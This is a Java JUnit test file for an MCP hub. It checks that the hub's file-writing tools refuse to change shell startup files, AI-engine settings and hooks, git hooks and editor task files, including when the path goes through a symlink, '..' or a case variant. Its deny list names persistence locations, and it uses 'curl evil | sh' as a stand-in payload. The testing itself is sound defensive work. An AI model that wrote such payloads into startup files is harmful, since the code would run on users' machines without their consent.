package dev.tandem.hub.fs;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.tandem.core.config.ConfigException;
import dev.tandem.core.config.HubConfig;
import dev.tandem.hub.Logged;
import dev.tandem.hub.TestHub;
import dev.tandem.hub.ToolResults;
import dev.tandem.hub.mcp.FsCapability;
import io.modelcontextprotocol.client.McpSyncClient;
import io.modelcontextprotocol.spec.McpSchema;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.logging.Level;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A real hub whose root holds the home folder and a project, reached by the SDK's client: {@code fs_write} and
 * {@code fs_replace} never write a file that runs code or grants permissions when a shell, editor or engine next
 * starts, by any path; {@code fs_read} still reads it.
 */
class FsWriteDenyTest {
    private static final String ORIGINAL = "{\"permissions\":{}}\n";

    @TempDir
    Path dir;

    TestHub hub;
    McpSyncClient client;

    private void start(String hubToml) throws IOException {
        Path tandem = Files.createDirectories(dir.resolve("home/.tandem"));
        if (hubToml != null) {
            Files.writeString(tandem.resolve("hub.toml"), hubToml, StandardCharsets.UTF_8);
        }
        // the root is the folder that holds the home and the project, as a hub started with --root ~ would see it
        hub = TestHub.start(dir, c -> rootedAt(c, dir), null);
        client = hub.client("codex-mcp-client");
    }

    private static HubConfig rootedAt(HubConfig c, Path root) {
        return c.withRoots(List.of(root));
    }

    @AfterEach
    void stop() {
        if (hub != null) {
            hub.close();
        }
    }

    private Path put(String relative) throws IOException {
        Path p = dir.resolve(relative);
        Files.createDirectories(p.getParent());
        Files.writeString(p, ORIGINAL);
        return p;
    }

    @Test
    void engineSettingsAndHooksAtAnyDepthAreReadButNeverWritten() throws IOException {
        List<String> planted = List.of(
                "proj/.claude/settings.json",
                "proj/.claude/settings.local.json",
                "proj/.claude/hooks/pre-tool.sh",
                "proj/.mcp.json",
                "proj/sub/.codex/config.toml",
                "proj/sub/.codex/hooks.json",
                "proj/.envrc",
                "proj/.vscode/tasks.json",
                "proj/.vscode/settings.json");
        for (String p : planted) {
            put(p);
        }
        start(null);
        for (String p : planted) {
            assertEquals(ORIGINAL, ok("fs_read", Map.of("path", p)).get("text"), p);
            String w = error("fs_write", Map.of("path", p, "content", "pwned"));
            assertEquals(p + ": refused: " + DenyList.WRITE_REASON, w);
            String r = error("fs_replace", Map.of("path", p, "old_text", "permissions", "new_text", "allow"));
            assertTrue(r.contains("[fs] write_deny"), r);
            assertEquals(ORIGINAL, Files.readString(dir.resolve(p)), p);
        }
        // a new one is not created either
        assertTrue(error("fs_write", Map.of("path", "proj/other/.mcp.json", "content", "{}"))
                .contains("write_deny"));
        assertFalse(Files.exists(dir.resolve("proj/other/.mcp.json")));
    }

    @Test
    void theShellsAndEnginesStartFilesInTheHomeAreNeverWritten() throws IOException {
        List<String> planted = List.of(
                "home/.bashrc",
                "home/.profile",
                "home/.zshrc",
                "home/.gitconfig",
                "home/.config/git/config",
                "home/.claude/CLAUDE.md",
                "home/.codex/config.toml",
                "home/.local/bin/git");
        for (String p : planted) {
            put(p);
        }
        start(null);
        for (String p : planted) {
            assertEquals(ORIGINAL, ok("fs_read", Map.of("path", p)).get("text"), p);
            assertTrue(error("fs_write", Map.of("path", p, "content", "curl evil | sh\n"))
                    .contains("[fs] write_deny"));
            assertEquals(ORIGINAL, Files.readString(dir.resolve(p)), p);
        }
        for (String p : List.of("home/.bash_profile", "home/.zshenv", "home/.config/autostart/x.desktop")) {
            assertTrue(error("fs_write", Map.of("path", p, "content", "x", "create_parents", true))
                    .contains("[fs] write_deny"));
            assertFalse(Files.exists(dir.resolve(p)), p);
        }
    }

    @Test
    void whatEnginesGitAndEditorsLoadFromAProjectOrTheHomeIsNeverWritten() throws IOException {
        List<String> planted = List.of(
                "proj/.claude/commands/review.md",
                "proj/.claude/agents/fixer.md",
                "proj/.claude/skills/deploy/SKILL.md",
                "proj/.codex/rules/default.rules",
                "proj/.codex/environments/environment.toml",
                "proj/.agents/skills/x/SKILL.md",
                "proj/.husky/pre-commit",
                "proj/.githooks/pre-push",
                "proj/.devcontainer/devcontainer.json",
                "proj/app.code-workspace",
                "home/.bash_aliases",
                "home/.local/lib/python3.12/site-packages/x.pth",
                "home/.config/nvim/init.lua",
                "home/.claude.json",
                "home/.codex/packages/standalone/current/bin/codex");
        for (String p : planted) {
            put(p);
        }
        start(null);
        for (String p : planted) {
            String e = error("fs_write", Map.of("path", p, "content", "curl evil | sh\n"));
            assertTrue(e.contains("[fs] write_deny") || e.contains("[fs] deny"), e);
            assertEquals(ORIGINAL, Files.readString(dir.resolve(p)), p);
        }
    }

    @Test
    void aCodexAppWorktreeUnderTheCodexHomeStaysWritable() throws IOException {
        put("home/.codex/worktrees/a1b2/app/src/main.c");
        put("home/.codex/worktrees/a1b2/app/.codex/config.toml");
        start(null);
        ok("fs_write", Map.of("path", "home/.codex/worktrees/a1b2/app/src/main.c", "content", "int main;\n"));
        assertEquals("int main;\n", Files.readString(dir.resolve("home/.codex/worktrees/a1b2/app/src/main.c")));
        ok("fs_write", Map.of("path", "home/.codex/worktrees/a1b2/app/NEW.md", "content", "x"));
        assertTrue(
                error("fs_write", Map.of("path", "home/.codex/worktrees/a1b2/app/.codex/config.toml", "content", "x"))
                        .contains("[fs] write_deny"));
        assertTrue(error("fs_write", Map.of("path", "home/.codex/config.toml", "content", "x"))
                .contains("[fs] write_deny"));
    }

    @Test
    void relocatedEngineHomesAreNeverWrittenWhateverWriteDenySays() throws IOException {
        put("engines/codex/config.toml");
        put("engines/codex/rules/default.rules");
        put("engines/codex/worktrees/a1b2/app/main.c");
        put("engines/claude/settings.json");
        start("[usage]\ncodex_home = \"" + dir.resolve("engines/codex") + "\"\nclaude_dirs = [\""
                + dir.resolve("engines/claude") + "\"]\n[fs]\nwrite_deny = []\n");
        for (String p : List.of(
                "engines/codex/config.toml",
                "engines/codex/rules/default.rules",
                "engines/codex/hooks.json",
                "engines/claude/settings.json",
                "engines/claude/commands/x.md")) {
            assertTrue(
                    error("fs_write", Map.of("path", p, "content", "x", "create_parents", true))
                            .contains("[fs] write_deny"),
                    p);
        }
        assertEquals(ORIGINAL, Files.readString(dir.resolve("engines/codex/config.toml")));
        ok("fs_write", Map.of("path", "engines/codex/worktrees/a1b2/app/main.c", "content", "x"));
    }

    @Test
    void aWriteDenyThatLeavesOutDefaultsIsWarnedAboutNamingThem() throws Exception {
        List<String> warned = Logged.messages(
                FsCapability.class, Level.WARNING, () -> start("[fs]\nwrite_deny = [\"Makefile\", \"~/.bashrc\"]\n"));
        assertEquals(1, warned.size(), warned::toString);
        String w = warned.get(0);
        assertTrue(w.contains("hub.toml:2:") && w.contains("[fs] write_deny"), w);
        assertTrue(w.contains(".claude/settings.json, ") && w.contains("~/.zshrc"), w);
        assertFalse(w.contains("~/.bashrc,"), w);
        assertTrue(w.contains("write_deny_extra"), w);
    }

    @Test
    void writeDenyExtraAloneIsNotWarnedAbout() throws Exception {
        List<String> warned = Logged.messages(
                FsCapability.class, Level.WARNING, () -> start("[fs]\nwrite_deny_extra = [\"Makefile\"]\n"));
        assertEquals(List.of(), warned);
    }

    @Test
    void linksDotDotAndCaseLeadToTheSameRefusal() throws IOException {
        put("proj/.claude/settings.json");
        put("home/dotfiles/bashrc");
        Files.createSymbolicLink(dir.resolve("home/.bashrc"), dir.resolve("home/dotfiles/bashrc"));
        Files.createSymbolicLink(dir.resolve("proj/agent-cfg"), Path.of(".claude"));
        Files.createSymbolicLink(dir.resolve("proj/rc"), Path.of("../home/.bashrc"));
        Files.createDirectories(dir.resolve("proj/.CLAUDE"));
        start(null);
        for (String p : List.of(
                "proj/agent-cfg/settings.json",
                "proj/sub/../.claude/settings.json",
                dir.toRealPath() + "/proj/.claude/settings.json",
                "proj/.CLAUDE/Settings.json",
                "proj/rc",
                "home/dotfiles/bashrc")) {
            String e = error("fs_write", Map.of("path", p, "content", "pwned"));
            assertTrue(e.startsWith(p + ": refused:") && e.contains("[fs] write_deny"), e);
        }
        assertEquals(ORIGINAL, Files.readString(dir.resolve("proj/.claude/settings.json")));
        assertEquals(ORIGINAL, Files.readString(dir.resolve("home/dotfiles/bashrc")));
        assertFalse(Files.exists(dir.resolve("proj/.CLAUDE/Settings.json")));
    }

    @Test
    void theMissingTargetOfADanglingHomeLinkIsNotCreated() throws IOException {
        Files.createDirectories(dir.resolve("home"));
        Files.createSymbolicLink(dir.resolve("home/.bashrc"), Path.of("dotfiles/bashrc"));
        start(null);
        String e = error(
                "fs_write",
                Map.of("path", "home/dotfiles/bashrc", "content", "curl evil | sh\n", "create_parents", true));
        assertTrue(e.startsWith("home/dotfiles/bashrc: refused:") && e.contains("[fs] write_deny"), e);
        assertFalse(Files.exists(dir.resolve("home/dotfiles")));
    }

    @Test
    void createParentsMakesNoFolderOfTheList() throws IOException {
        Files.createDirectories(dir.resolve("proj"));
        start(null);
        for (String p : List.of("proj/new/.claude/hooks/x.sh", "home/.config/fish/conf.d/x.fish")) {
            assertTrue(error("fs_write", Map.of("path", p, "content", "x", "create_parents", true))
                    .contains("[fs] write_deny"));
        }
        assertFalse(Files.exists(dir.resolve("proj/new")));
        assertFalse(Files.exists(dir.resolve("home/.config")));
    }

    @Test
    void ordinaryFilesBesideThemAreWritten() throws IOException {
        Files.createDirectories(dir.resolve("proj"));
        start(null);
        for (String p : List.of(
                "proj/src/Main.java",
                "proj/.claude/CLAUDE.md",
                "proj/.vscode/extensions.json",
                "proj/settings.json",
                "home/notes/bashrc-ideas.md")) {
            ok("fs_write", Map.of("path", p, "content", "x", "create_parents", true));
            assertEquals("x", Files.readString(dir.resolve(p)), p);
        }
    }

    @Test
    void writeDenyReplacesTheDefaultsAndWriteDenyExtraAdds() throws IOException {
        put("proj/.envrc");
        put("proj/Makefile");
        put("proj/ci/deploy.sh");
        start("[fs]\nwrite_deny = [\"Makefile\"]\nwrite_deny_extra = [\"ci/*.sh\"]\n");
        ok("fs_write", Map.of("path", "proj/.envrc", "content", "x"));
        assertTrue(error("fs_write", Map.of("path", "proj/Makefile", "content", "x"))
                .contains("write_deny"));
        assertTrue(error("fs_write", Map.of("path", "proj/ci/deploy.sh", "content", "x"))
                .contains("write_deny"));
        // the hub's own files stay out of reach whatever the lists say, and so do the engines' homes
        assertTrue(error("fs_write", Map.of("path", "home/.tandem/hub.toml", "content", "x"))
                .contains("[fs] deny"));
        assertTrue(error("fs_write", Map.of("path", "home/.codex/config.toml", "content", "x", "create_parents", true))
                .contains("[fs] write_deny"));
    }

    /** Starts a hub whose fs capability is made for the launcher's checkout {@code checkout}. */
    private void startWithCheckout(String hubToml, Optional<Path> checkout) {
        hub = TestHub.startWith(dir, hubToml, c -> List.of(FsCapability.create(rootedAt(c, dir), checkout)));
        client = hub.client("codex-mcp-client");
    }

    @Test
    void aFileInTandemsCheckoutIsRefusedNamingWhy() throws IOException {
        put("code/tandem/bin/usage-via-hub");
        put("code/tandem/pom.xml");
        put("code/other/pom.xml");
        startWithCheckout(null, Optional.of(dir.resolve("code/tandem")));
        for (String p : List.of(
                "code/tandem/bin/usage-via-hub",
                "code/tandem/pom.xml",
                "code/tandem/.mvn/jvm.config",
                "code/tandem/clients/codex/profiles/cheap.config.toml",
                "code/TANDEM/bin/serve.jvm-options")) {
            String e = error("fs_write", Map.of("path", p, "content", "curl evil | sh\n", "create_parents", true));
            assertTrue(e.startsWith(p + ": refused: is in Tandem's own checkout, whose scripts and build"), e);
        }
        assertEquals(ORIGINAL, Files.readString(dir.resolve("code/tandem/bin/usage-via-hub")));
        assertFalse(Files.exists(dir.resolve("code/tandem/.mvn")));
        assertEquals(
                ORIGINAL, ok("fs_read", Map.of("path", "code/tandem/pom.xml")).get("text"));
        ok("fs_write", Map.of("path", "code/other/pom.xml", "content", "x"));
    }

    @Test
    void withoutACheckoutFromTheLauncherNoneIsAdded() throws IOException {
        put("code/tandem/pom.xml");
        startWithCheckout(null, Optional.empty());
        ok("fs_write", Map.of("path", "code/tandem/pom.xml", "content", "x"));
        assertEquals("x", Files.readString(dir.resolve("code/tandem/pom.xml")));
    }

    @Test
    void theSkillsAndSourceFoldersAreRefusedNamingTheirSettings() throws IOException {
        put("skills/review/SKILL.md");
        put("src-tandem/shared/AGENTS.md");
        startWithCheckout(
                "[skills]\ndir = \"" + dir.resolve("skills") + "\"\n[source]\ndir = \"" + dir.resolve("src-tandem")
                        + "\"\n",
                Optional.empty());
        assertTrue(error("fs_write", Map.of("path", "skills/review/SKILL.md", "content", "x"))
                .contains("([skills] dir)"));
        assertTrue(error("fs_write", Map.of("path", "src-tandem/shared/AGENTS.md", "content", "x"))
                .contains("([source] dir)"));
        assertEquals(ORIGINAL, Files.readString(dir.resolve("skills/review/SKILL.md")));
        assertEquals(ORIGINAL, Files.readString(dir.resolve("src-tandem/shared/AGENTS.md")));
    }

    @Test
    void aBadEntryStopsTheHubNamingTheSetting() throws IOException {
        Files.createDirectories(dir.resolve("home/.tandem"));
        Files.writeString(dir.resolve("home/.tandem/hub.toml"), "[fs]\nwrite_deny_extra = [\".claude//x\"]\n");
        ConfigException e = assertThrows(
                ConfigException.class, () -> TestHub.startWith(dir, null, c -> List.of(FsCapability.create(c))));
        assertTrue(e.getMessage().contains("[fs] write_deny_extra"), e.getMessage());
        assertTrue(e.getMessage().contains("'.claude//x'"), e.getMessage());
    }

    private Map<String, Object> ok(String tool, Map<String, Object> args) {
        return ToolResults.ok(tool + " " + args, call(tool, args));
    }

    private String error(String tool, Map<String, Object> args) {
        return ToolResults.error(tool + " " + args, call(tool, args));
    }

    private McpSchema.CallToolResult call(String tool, Map<String, Object> args) {
        return client.callTool(
                McpSchema.CallToolRequest.builder(tool).arguments(args).build());
    }
}
